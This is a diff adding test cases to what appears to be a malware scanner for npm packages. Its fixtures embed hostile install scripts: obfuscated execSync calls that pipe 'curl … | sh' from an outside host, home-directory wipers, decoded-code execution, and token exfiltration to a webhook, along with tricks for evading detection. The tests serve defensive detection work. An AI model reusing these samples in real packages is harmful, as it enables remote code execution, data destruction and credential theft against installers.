@@ -626,3 +626,101 @@ with (host) { with (binding('spawn' + '_sync')) { spawn(req); } }`,
     expect(r.evidence.some((f) => f.rule === 'js.internal-spawn-binding')).toBe(true);
   });
 });
+
+describe('review of the twelfth session: each repro stays caught or quiet', () => {
+  const install = (files: Record<string, string>) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node index.js' } }), ...files });
+  const threats = (r: ReturnType<typeof analyzeSource>) =>
+    r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5).map((f) => f.rule);
+  it.each([
+    [
+      'require inside with (Math)',
+      `with (Math) { require('child_process').execSync('curl -s https://x.example-cdn.top/i | sh'); }`,
+    ],
+    [
+      'a with object does not rename a function’s parameter at its call',
+      `const cp = require('child_process'); function run(cmd) { cp.execSync(cmd); }
+with ({ cmd: 'ls' }) { run('curl -s https://x.example-cdn.top/i | sh'); }`,
+    ],
+    [
+      'call.bind(String.fromCharCode.apply, execSync) runs execSync',
+      `const cp = require('child_process'); const run = Function.prototype.call.bind(String.fromCharCode.apply, cp.execSync);
+run(null, ['curl -s https://x.example-cdn.top/i | sh']);`,
+    ],
+    [
+      'text doubled forty times before the payload',
+      `let s = 'ab'; for (let i = 0; i < 40; i++) s += s;
+require('child_process').execSync('curl -s https://x.example-cdn.top/i | sh');`,
+    ],
+  ])('still critical: %s', (_, code) => {
+    const r = install({ 'index.js': code });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a shipped node_modules/child_process does not replace Node’s own module', () => {
+    const r = install({
+      'index.js': `require('child_process').execSync('curl -s https://x.example-cdn.top/i | sh');`,
+      'node_modules/child_process/package.json': JSON.stringify({ name: 'child_process', main: 'index.js' }),
+      'node_modules/child_process/index.js': 'exports.execSync = () => "";',
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('an empty marker does not make a wiper a hook manager', () => {
+    const r = install({
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+for (const f of fs.readdirSync(os.homedir())) { const p = path.join(os.homedir(), f); if (fs.readFileSync(p, 'utf8').includes('')) fs.writeFileSync(p, ''); }`,
+    });
+    expect(threats(r)).toContain('js.destructive-user-data');
+  });
+  it('a decoded name put where a function name goes, with no identifier check: still decoded code', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs');
+const name = Buffer.from(fs.readFileSync(__dirname + '/n.txt', 'utf8'), 'base64').toString();
+module.exports = new Function('return function ' + name + '(){ return 1 }')();`,
+      'n.txt': 'eA==',
+    });
+    expect(threats(r)).toContain('js.eval-decoded');
+  });
+  it('a catch block that sets another address is followed as the path it is', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const os = require('os');
+let u = 'https://status.example.com/ping';
+try { JSON.parse('{'); } catch (e) { u = '${HOOK}'; }
+fetch(u, { method: 'POST', body: JSON.stringify({ content: os.hostname(), token: process.argv[2] }) });`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.chat-webhook-exfil')).toBe(true);
+  });
+  it('a bound deletion called with .call keeps its bound path', () => {
+    const r = install({
+      'index.js': `const fs = require('fs'), os = require('os');
+const wipe = fs.rmSync.bind(fs, os.homedir(), { recursive: true, force: true });
+wipe.call(null);`,
+    });
+    expect(threats(r)).toContain('js.destructive-user-data');
+  });
+  it.each([
+    [
+      'a DTO field transform decoding base64',
+      `exports.fields = { avatar: { transform(v) { return Buffer.from(v, 'base64').toString('utf8'); } } };`,
+    ],
+    [
+      'a tokenizer growing tok.code',
+      `exports.lex = (src) => { const tok = { code: '' }; for (let i = 0; i < src.length; i++) tok.code += String.fromCharCode(src.charCodeAt(i)); return tok; };`,
+    ],
+    [
+      'telemetry sending the names of its own environment variables',
+      `const names = Object.keys(process.env).filter((k) => k.startsWith('MYTOOL_'));
+fetch('https://telemetry.example-tool.dev/v1', { method: 'POST', body: JSON.stringify({ configured: names, ci: Object.keys(process.env).some((k) => k === 'CI') }) });`,
+    ],
+  ])('quiet: %s', (_, code) => {
+    expect(threats(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+  it('a token count is not a token: a reporter posting usage to its webhook stays at 0.5', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `exports.report = (usage) => fetch('${HOOK}', { method: 'POST', body: JSON.stringify({ text: 'done', tokens: usage.total_tokens }) });`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.5 });
+  });
+});
